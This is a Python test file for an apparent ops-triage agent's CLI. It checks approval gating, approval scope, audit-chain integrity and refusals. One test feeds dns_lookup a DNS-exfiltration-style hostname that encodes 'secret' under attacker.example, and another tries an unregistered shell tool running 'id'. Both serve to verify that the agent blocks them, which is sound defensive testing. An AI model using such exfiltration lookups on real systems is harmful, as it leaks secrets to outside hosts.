"""`triage tools|approvals|audit` through the real CLI app on a temp home."""

from __future__ import annotations

import json
from pathlib import Path

import yaml
from typer.testing import CliRunner

from agent.cli.main import app


def _setup(tmp_path: Path, fake_bin) -> list[str]:
    bindir, _ = fake_bin
    cfg = {"teams": {"payments": {"approvers": ["U1"]}},
           "tools": {"bin_path": f"{bindir}:/usr/bin:/bin"},
           "targets": {"services": {"local": {"hosts": ["localhost"]}}}}
    path = tmp_path / "config.yaml"
    path.write_text(yaml.safe_dump(cfg))
    return ["--home", str(tmp_path / "home"), "--config", str(path)]


def test_list_shows_every_builtin_tool() -> None:
    out = CliRunner().invoke(app, ["tools", "list", "--json"])
    assert out.exit_code == 0, out.output
    names = {t["name"] for t in json.loads(out.output)}
    assert {"http_health_check", "systemd_restart", "run_runbook_script"} <= names


def test_run_approve_rerun_and_audit(tmp_path: Path, fake_bin, argv_of) -> None:
    g = _setup(tmp_path, fake_bin)
    r = CliRunner()
    args = ["--args", '{"unit": "checkout.service"}', "--team", "payments"]
    dry = r.invoke(app, [*g, "tools", "run", "systemd_restart", *args, "--dry-run"])
    assert dry.exit_code == 0 and '["systemctl", "restart", "--", "checkout.service"]' in \
        dry.output
    first = r.invoke(app, [*g, "tools", "run", "systemd_restart", *args, "--json"])
    assert first.exit_code == 4, first.output
    approval = json.loads(first.output)["approval_id"]
    listed = r.invoke(app, [*g, "approvals", "list"])
    assert approval in listed.output and "pending" in listed.output
    bad = r.invoke(app, [*g, "approvals", "approve", approval, "--approver", "mallory"])
    assert bad.exit_code == 3
    ok = r.invoke(app, [*g, "approvals", "approve", approval, "--approver", "U1"])
    assert ok.exit_code == 0 and "approved by U1" in ok.output
    changed = r.invoke(app, [*g, "tools", "run", "systemd_restart", "--args",
                             '{"unit": "sshd.service"}', "--approval", approval])
    assert changed.exit_code == 4  # the approval does not cover other arguments
    ran = r.invoke(app, [*g, "tools", "run", "systemd_restart", *args, "--approval", approval])
    assert ran.exit_code == 0, ran.output
    assert argv_of(fake_bin[1]) == ["systemctl restart -- checkout.service"]
    tail = r.invoke(app, [*g, "audit", "tail", "-n", "50"])
    assert "approved" in tail.output and "started" in tail.output
    verify = r.invoke(app, [*g, "audit", "verify"])
    assert verify.exit_code == 0 and "chain intact" in verify.output, verify.output
    assert "unsafe executions: 0" in verify.output


def test_bad_json_and_refusals_have_exit_codes(tmp_path: Path, fake_bin) -> None:
    g = _setup(tmp_path, fake_bin)
    r = CliRunner()
    assert r.invoke(app, [*g, "tools", "run", "dns_lookup", "--args", "{nope"]).exit_code == 2
    refused = r.invoke(app, [*g, "tools", "run", "shell", "--args", '{"cmd": "id"}'])
    assert refused.exit_code == 3 and "not a registered tool" in refused.output
    ok = r.invoke(app, [*g, "tools", "run", "dns_lookup", "--args", '{"name": "localhost"}'])
    assert ok.exit_code == 0 and "127.0.0.1" in ok.output  # listed in the targets inventory
    unlisted = r.invoke(app, [*g, "tools", "run", "dns_lookup", "--args",
                              '{"name": "exfil-c2VjcmV0.attacker.example"}'])
    assert unlisted.exit_code == 3 and "not a listed host" in unlisted.output
